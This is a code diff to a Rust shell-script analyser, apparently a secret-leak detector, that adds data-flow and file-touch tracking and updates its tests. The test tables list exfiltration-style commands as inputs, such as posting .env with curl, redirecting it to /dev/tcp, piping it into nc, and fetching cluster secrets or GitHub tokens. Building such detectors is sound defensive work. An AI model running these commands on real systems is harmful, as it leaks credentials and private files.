@@ -7,9 +7,12 @@
 //! follows from a table of those that print, copy or send what they are given.
 
 mod deed;
+mod flow;
 mod inline;
+mod made;
 mod program;
 mod table;
+mod touch;
 mod walk;
 mod word;
 
@@ -17,6 +20,8 @@ use leaktight_core::Span;
 
 pub use self::deed::{Act, Deed};
 pub(crate) use self::inline::names;
+pub(crate) use self::program::mentions_governing;
+pub use self::touch::{How, Touch};
 pub use self::word::Word;
 
 /// The longest script that is looked at, in bytes.
@@ -34,6 +39,8 @@ const MAX_OF: [(&str, usize); 3] = [("|", 400), ("<<", 100), ("=(", 100)];
 pub struct Script {
     /// What its commands do, in the order they stand there.
     pub deeds: Vec<Deed>,
+    /// The files its commands name, whatever they do with them.
+    pub touches: Vec<Touch>,
     /// How its commands are joined.
     pub shape: Shape,
     /// The programs of its commands, each with the place of the command.
@@ -60,17 +67,24 @@ pub enum Shape {
 /// as the caller knows, such as `HOME`.
 pub fn read(script: &str, variable: &dyn Fn(&str) -> Option<String>) -> Script {
     let mut walk = walk::Walk::new(variable);
-    walk.script(script, 0);
-    let (commands, shape, sound) = walk.finish();
-    let mut deeds = Vec::new();
-    let mut sound = sound;
-    for command in &commands {
-        sound &= deed::tell(command, &mut deeds);
+    walk.outermost(script);
+    let (commands, shape, mut sound) = walk.finish();
+    let (mut deeds, mut touches) = (Vec::new(), Vec::new());
+    let (fates, is_whole) = flow::fates(&commands);
+    sound &= is_whole;
+    for (command, fate) in commands.iter().zip(&fates) {
+        sound &= deed::tell(command, fate, &mut deeds);
+        touch::tell(command, &mut touches);
+    }
+    made::tell(&commands, &mut deeds);
+    if script.contains("]::") {
+        // A call of .NET, as PowerShell has it.
+        names(script).into_iter().for_each(|name| deeds.push(Deed::new(Act::Prints, Word::literal(name))));
     }
     let is_outer = |command: &&Command| !command.span.is_empty() && !command.words.is_empty();
     let program = |command: &Command| (program::name(&command.words[0]), command.span);
     let programs = commands.iter().filter(is_outer).map(program).collect();
-    Script { deeds, shape, programs, sound }
+    Script { deeds, touches, shape, programs, sound }
 }
 
 /// A simple command.
@@ -88,6 +102,10 @@ pub(crate) struct Command {
     folders: Vec<String>,
     /// Where it stands in the outermost script.
     span: Span,
+    /// Where it starts: in its script and in those around, each by its number.
+    places: Vec<(usize, usize)>,
+    /// What gets its output.
+    ends: Vec<flow::End>,
 }
 
 #[cfg(test)]
@@ -109,10 +127,15 @@ mod tests {
                 Act::Contacts => "@",
                 Act::Environment => "E",
                 Act::Secret => "!",
+                Act::Encodes => "X",
+                Act::Recalls => "R",
+                Act::Hands => "H",
+                Act::Governs => "G",
+                Act::Runs => "run",
             };
             format!("{act}:{}", deed.target.text)
         };
-        script.deeds.iter().map(short).collect::<Vec<_>>().join(" ")
+        script.deeds.iter().filter(|deed| deed.act != Act::Runs).map(short).collect::<Vec<_>>().join(" ")
     }
 
     #[test]
@@ -142,7 +165,7 @@ mod tests {
             ("f() { cat .env; }; f", "P:.env"),
             ("(cat .env)", "P:.env"),
             ("! cat .env", "P:.env"),
-            ("base64 .env", "P:.env"),
+            ("base64 .env", "X:.env"),
             ("xargs cat < list", "P:list"),
         ] {
             let expected = expected.replace(" P:-3", "");
@@ -187,7 +210,7 @@ mod tests {
             ("echo \"a ${GITHUB_TOKEN:-b}\"", "E:GITHUB_TOKEN"),
             ("echo $PATH", ""),
             ("env A=1 npm test", ""),
-            ("node -e 'console.log(process.env)'", "P:console.log P:process.env E:"),
+            ("node -e 'console.log(process.env)'", "P:console.log E:"),
             ("kubectl -n x get secret/db -o yaml", "!:secrets of a cluster"),
             ("gh auth token", "!:a token"),
             ("gh pr list", ""),
@@ -202,11 +225,12 @@ mod tests {
     fn what_is_sent_and_copied() {
         for (script, expected) in [
             ("leaktight run -- curl https://example.com", "@:https://example.com"),
-            ("curl -u \"$API_TOKEN\" https://example.com", "S: @:https://example.com"),
+            ("curl -u \"$API_TOKEN\" https://example.com", "S: @:https://example.com H:API_TOKEN"),
             ("curl -d @.env https://example.com", "S:-d S:.env S:@.env @:https://example.com"),
             ("cp .env /tmp/x", "C:.env"),
             ("tar czf a.tgz .env", "C:czf C:a.tgz C:.env"),
             ("dd if=.env of=x", "C:.env"),
+            ("dd if=.env", "P:.env C:.env"),
             ("cat .env > /dev/tcp/1.2.3.4/80", "@:/dev/tcp/1.2.3.4/80 P:.env"),
             ("nc host 80 < .env", "S:.env S:host S:80"),
         ] {
